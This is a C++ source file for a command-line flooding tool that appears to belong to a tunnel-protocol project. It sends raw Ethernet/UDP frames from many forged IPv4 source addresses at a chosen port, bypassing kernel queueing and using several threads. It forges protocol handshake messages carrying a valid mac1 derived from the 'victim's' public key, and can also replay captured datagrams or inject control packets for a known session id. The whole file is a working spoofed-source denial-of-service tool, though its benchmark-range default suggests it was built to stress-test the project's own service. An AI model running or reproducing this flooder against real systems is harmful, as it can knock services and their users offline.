// Sends one kind of datagram from many made-up IPv4 sources, as fast as it goes or at a given rate, past routing and
// queueing disciplines: each frame stands ready in memory and is handed to the device as it is. Prints
// {"sent", "refused", "seconds", "rate", "bytes"}: frames that the device took and did not take, bytes of the IPv4
// packets that it took.
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sodium.h>
#include <sys/ioctl.h>
#include <sys/socket.h>

#include <CLI/CLI.hpp>
#include <algorithm>
#include <array>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <functional>
#include <map>
#include <random>
#include <stdexcept>
#include <string>
#include <system_error>
#include <thread>
#include <vector>

#include "base/address.h"
#include "base/bytes.h"
#include "base/file_descriptor.h"
#include "centipede/wire.h"

namespace {

using namespace centipede;
using Clock = std::chrono::steady_clock;
using Payload = std::vector<uint8_t>;

struct Options {
  std::string kind;
  std::string device;
  std::string to_mac;
  std::string to;
  std::string from = "198.18.0.1";
  std::string key;
  std::string hex;
  uint16_t port = CP_DEFAULT_PORT;
  size_t sources = 131072;
  size_t size = 132;
  double rate = 0;
  double seconds = 1;
  unsigned threads = 1;
};

[[noreturn]] void give_up(const std::string& what) {
  throw std::system_error(errno, std::system_category(), what);
}

// ---- Payloads

class Forger {
 public:
  explicit Forger(const Options& options) : options_(options) {
    if (!options.hex.empty()) given_ = from_hex(options.hex);
    if (options.key.empty()) return;
    std::array<uint8_t, 4 + 32> labelled{'m', 'a', 'c', '1'};
    size_t length = 0;
    if (sodium_base642bin(&labelled[4], 32, options.key.data(), options.key.size(), nullptr, &length, nullptr,
                          sodium_base64_VARIANT_ORIGINAL) != 0 ||
        length != 32)
      throw std::invalid_argument("--key takes a public key in base64");
    std::array<uint8_t, 64> digest;
    crypto_generichash(digest.data(), digest.size(), labelled.data(), labelled.size(), nullptr, 0);
    std::copy_n(digest.begin(), mac1_key_.size(), mac1_key_.begin());
  }

  // Initiations and responses have a mac1 that fits --key, if that is given.
  Payload make() {
    const auto found = kinds_.find(options_.kind);
    if (found == kinds_.end()) throw std::invalid_argument("unknown kind '" + options_.kind + "'");
    return (this->*found->second)();
  }

 private:
  static Payload from_hex(const std::string& text) {
    Payload bytes(text.size() / 2);
    if (sodium_hex2bin(bytes.data(), bytes.size(), text.data(), text.size(), nullptr, nullptr, nullptr) != 0)
      throw std::invalid_argument("--hex takes hexadecimal digits");
    return bytes;
  }

  Payload random(size_t size) {
    Payload bytes(size);
    randombytes_buf(bytes.data(), bytes.size());
    return bytes;
  }

  Payload message(uint8_t type, size_t size, size_t mac1) {
    Payload bytes = random(size);
    std::fill_n(bytes.begin(), CP_CONTROL_HEADER_SIZE, 0);
    bytes[0] = static_cast<uint8_t>(CP_CONTROL_BIT | type);
    bytes[1] = CP_PROTOCOL_VERSION;
    bytes[47] &= 0x7f;  // the ephemeral key passes for one
    if (!options_.key.empty()) crypto_shorthash_siphashx24(&bytes[mac1], bytes.data(), mac1, mac1_key_.data());
    std::fill_n(bytes.begin() + static_cast<ptrdiff_t>(mac1 + CP_MAC_SIZE), CP_MAC_SIZE, 0);
    return bytes;
  }
  Payload initiation() { return message(CP_TYPE_INITIATION, CP_INITIATION_SIZE, CP_INITIATION_OFFSET_MAC1); }
  Payload response() { return message(CP_TYPE_RESPONSE, CP_RESPONSE_SIZE, CP_RESPONSE_OFFSET_MAC1); }
  Payload cookie() {
    Payload bytes = random(CP_COOKIE_SIZE);
    std::fill_n(bytes.begin(), CP_CONTROL_HEADER_SIZE, 0);
    bytes[0] = CP_CONTROL_BIT | CP_TYPE_COOKIE;
    bytes[1] = CP_PROTOCOL_VERSION;
    return bytes;
  }

  Payload packet(uint64_t lane, uint64_t counter, size_t size) {
    Payload bytes = random(std::max<size_t>(size, CP_DATA_HEADER_SIZE));
    store_be(bytes.data(), lane << CP_LANE_SHIFT | counter);
    return bytes;
  }
  Payload unknown_session() { return packet(numbers_() % 2, numbers_() % CP_COUNTER_LIMIT, options_.size); }
  // --hex: the session id.
  Payload control() {
    Payload bytes =
        packet(CP_CONTROL_LANE, numbers_() % CP_COUNTER_LIMIT, CP_DATA_HEADER_SIZE + size_t{CP_HEARTBEAT_SIZE});
    if (given_.size() != 8) throw std::invalid_argument("kind control needs --hex SESSION_ID");
    std::ranges::copy(given_, bytes.begin() + CP_OFFSET_SID);
    return bytes;
  }
  Payload replay() {
    if (given_.empty()) throw std::invalid_argument("kind replay needs --hex DATAGRAM");
    return given_;
  }
  Payload noise() { return random(1 + numbers_() % 1400); }

  const Options& options_;
  Payload given_;
  std::array<uint8_t, crypto_shorthash_siphashx24_KEYBYTES> mac1_key_{};
  std::mt19937_64 numbers_{std::random_device{}()};
  const std::map<std::string, Payload (Forger::*)()> kinds_{{"initiation", &Forger::initiation},
                                                            {"response", &Forger::response},
                                                            {"cookie", &Forger::cookie},
                                                            {"unknown_session", &Forger::unknown_session},
                                                            {"control", &Forger::control},
                                                            {"replay", &Forger::replay},
                                                            {"noise", &Forger::noise}};
};

// ---- Frames

uint16_t ip_checksum(const iphdr& header) {
  std::array<uint16_t, sizeof header / 2> words;
  std::memcpy(words.data(), &header, sizeof header);
  uint32_t sum = 0;
  for (const uint16_t word : words)
    sum += word;
  sum = (sum & 0xffff) + (sum >> 16);
  return static_cast<uint16_t>(~(sum + (sum >> 16)));
}

uint32_t ipv4(const std::string& text) {
  const auto address = IpAddress::parse(text);
  if (!address || !address->is_v4()) throw std::invalid_argument("'" + text + "' is no IPv4 address");
  return load_be<uint32_t>(address->bytes().data());
}

struct Device {
  int index;
  ether_addr mac;
};

Device find_device(const std::string& name) {
  const FileDescriptor socket(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
  ifreq request{};
  name.copy(request.ifr_name, IFNAMSIZ - 1);
  Device device{};
  if (ioctl(socket.get(), SIOCGIFINDEX, &request) != 0) give_up("finding " + name);
  device.index = request.ifr_ifindex;
  if (ioctl(socket.get(), SIOCGIFHWADDR, &request) != 0) give_up("finding " + name);
  std::memcpy(&device.mac, request.ifr_hwaddr.sa_data, sizeof device.mac);
  return device;
}

ether_addr parse_mac(const std::string& text) {
  std::array<unsigned, 6> bytes{};
  if (std::sscanf(text.c_str(), "%x:%x:%x:%x:%x:%x", &bytes[0], &bytes[1], &bytes[2], &bytes[3], &bytes[4],
                  &bytes[5]) != 6)
    throw std::invalid_argument("'" + text + "' is no Ethernet address");
  ether_addr mac{};
  std::ranges::copy(bytes, mac.ether_addr_octet);
  return mac;
}

// A frame for each source; the port differs with it and is never the tunnel's own. UDP has no checksum, as IPv4 allows.
std::vector<Payload> make_frames(const Options& options, const ether_addr& own_mac) {
  const ether_addr to_mac = parse_mac(options.to_mac);
  const uint32_t to = ipv4(options.to);
  const uint32_t from = ipv4(options.from);
  Forger forger(options);
  std::vector<Payload> frames;
  frames.reserve(options.sources);
  for (size_t i = 0; i < options.sources; ++i) {
    const Payload payload = forger.make();
    ether_header ethernet{};
    std::memcpy(ethernet.ether_dhost, &to_mac, sizeof to_mac);
    std::memcpy(ethernet.ether_shost, &own_mac, sizeof own_mac);
    ethernet.ether_type = htons(ETHERTYPE_IP);
    udphdr udp{};
    udp.source = htons(static_cast<uint16_t>(20000 + i % 40000));
    udp.dest = htons(options.port);
    udp.len = htons(static_cast<uint16_t>(sizeof udp + payload.size()));
    iphdr ip{};
    ip.version = 4;
    ip.ihl = sizeof ip / 4;
    ip.tot_len = htons(static_cast<uint16_t>(sizeof ip + sizeof udp + payload.size()));
    ip.ttl = 64;
    ip.protocol = IPPROTO_UDP;
    ip.saddr = htonl(from + static_cast<uint32_t>(i));
    ip.daddr = htonl(to);
    ip.check = ip_checksum(ip);
    Payload& frame = frames.emplace_back(sizeof ethernet + sizeof ip + sizeof udp + payload.size());
    std::memcpy(frame.data(), &ethernet, sizeof ethernet);
    std::memcpy(&frame[sizeof ethernet], &ip, sizeof ip);
    std::memcpy(&frame[sizeof ethernet + sizeof ip], &udp, sizeof udp);
    std::ranges::copy(payload, frame.end() - static_cast<ptrdiff_t>(payload.size()));
  }
  return frames;
}

// ---- Sending

FileDescriptor open_socket(const Device& device) {
  FileDescriptor socket(::socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0));  // protocol 0: receives nothing
  const int on = 1;
  sockaddr_ll address{};
  address.sll_family = AF_PACKET;
  address.sll_ifindex = device.index;
  if (!socket || setsockopt(socket.get(), SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof on) != 0 ||
      bind(socket.get(), reinterpret_cast<const sockaddr*>(&address), sizeof address) != 0)
    give_up("opening a packet socket");
  return socket;
}

struct Tally {
  uint64_t sent = 0;
  uint64_t refused = 0;
  uint64_t bytes = 0;
};

Tally send_frames(std::span<Payload> frames, const FileDescriptor& socket, double rate, Clock::time_point end) {
  constexpr size_t largest_batch = 64;
  constexpr double batches_a_second = 2000;
  std::vector<iovec> vectors;
  for (Payload& frame : frames)
    vectors.push_back({frame.data(), frame.size()});
  std::vector<mmsghdr> messages(vectors.size());
  for (size_t i = 0; i < vectors.size(); ++i) {
    messages[i].msg_hdr.msg_iov = &vectors[i];
    messages[i].msg_hdr.msg_iovlen = 1;
  }
  const size_t batch =
      rate == 0 ? largest_batch : std::clamp<size_t>(static_cast<size_t>(rate / batches_a_second), 1, largest_batch);
  const auto start = Clock::now();
  Tally tally;
  for (size_t next = 0; Clock::now() < end;) {
    const auto offered = static_cast<double>(tally.sent + tally.refused);
    if (rate != 0)
      std::this_thread::sleep_until(std::min(
          end, start + std::chrono::duration_cast<Clock::duration>(std::chrono::duration<double>(offered / rate))));
    const size_t count = std::min(batch, messages.size() - next);
    const int sent = sendmmsg(socket.get(), &messages[next], static_cast<unsigned>(count), 0);
    if (sent <= 0) {  // an error is about the first message
      if (errno != ENOBUFS && errno != EAGAIN) give_up("sending");
      ++tally.refused;
      ++next;
    } else {
      for (size_t i = next; i < next + static_cast<size_t>(sent); ++i)
        tally.bytes += vectors[i].iov_len - sizeof(ether_header);
      tally.sent += static_cast<size_t>(sent);
      next += static_cast<size_t>(sent);
    }
    if (next == messages.size()) next = 0;
  }
  return tally;
}

void flood(const Options& options) {
  const Device device = find_device(options.device);
  std::vector<Payload> frames = make_frames(options, device.mac);
  const unsigned threads = std::clamp<unsigned>(options.threads, 1, static_cast<unsigned>(frames.size()));
  const auto start = Clock::now();
  const auto end = start + std::chrono::duration_cast<Clock::duration>(std::chrono::duration<double>(options.seconds));
  std::vector<Tally> tallies(threads);
  {
    std::vector<std::jthread> running;
    const size_t share = frames.size() / threads;
    for (unsigned i = 0; i < threads; ++i)
      running.emplace_back([&, i, socket = open_socket(device)] {
        tallies[i] = send_frames(std::span(frames).subspan(i * share, share), socket, options.rate / threads, end);
      });
  }
  const double seconds = std::chrono::duration<double>(Clock::now() - start).count();
  Tally total;
  for (const Tally& tally : tallies) {
    total.sent += tally.sent;
    total.refused += tally.refused;
    total.bytes += tally.bytes;
  }
  std::printf(R"({"sent": %lu, "refused": %lu, "bytes": %lu, "seconds": %.3f, "rate": %.0f})"
              "\n",
              total.sent, total.refused, total.bytes, seconds, static_cast<double>(total.sent) / seconds);
}

}  // namespace

int main(int argc, char** argv) {
  CLI::App app{"Floods one UDP port from many made-up sources."};
  Options options;
  app.add_option("kind", options.kind, "initiation, response, cookie, unknown_session, control, replay or noise")
      ->required();
  app.add_option("--device", options.device, "goes out there")->required();
  app.add_option("--to-mac", options.to_mac, "Ethernet destination")->required();
  app.add_option("--to", options.to, "IPv4 destination")->required();
  app.add_option("--port", options.port, "UDP destination")->capture_default_str();
  app.add_option("--from", options.from, "first source, the others follow it")->capture_default_str();
  app.add_option("--sources", options.sources, "how many")->capture_default_str()->check(CLI::PositiveNumber);
  app.add_option("--key", options.key, "public key of the victim, for a valid mac1; else it is random");
  app.add_option("--hex", options.hex, "control: the session id; replay: the datagram");
  app.add_option("--size", options.size, "of data packets")->capture_default_str();
  app.add_option("--rate", options.rate, "frames a second, 0: as fast as it goes")->capture_default_str();
  app.add_option("--seconds", options.seconds, "how long")->capture_default_str();
  app.add_option("--threads", options.threads, "that send")->capture_default_str();
  try {
    app.parse(argc, argv);
    if (sodium_init() < 0) throw std::runtime_error("libsodium does not start");
    flood(options);
  } catch (const CLI::ParseError& error) {
    return app.exit(error);
  } catch (const std::exception& error) {
    std::fprintf(stderr, "flood: %s\n", error.what());
    return 1;
  }
  return 0;
}
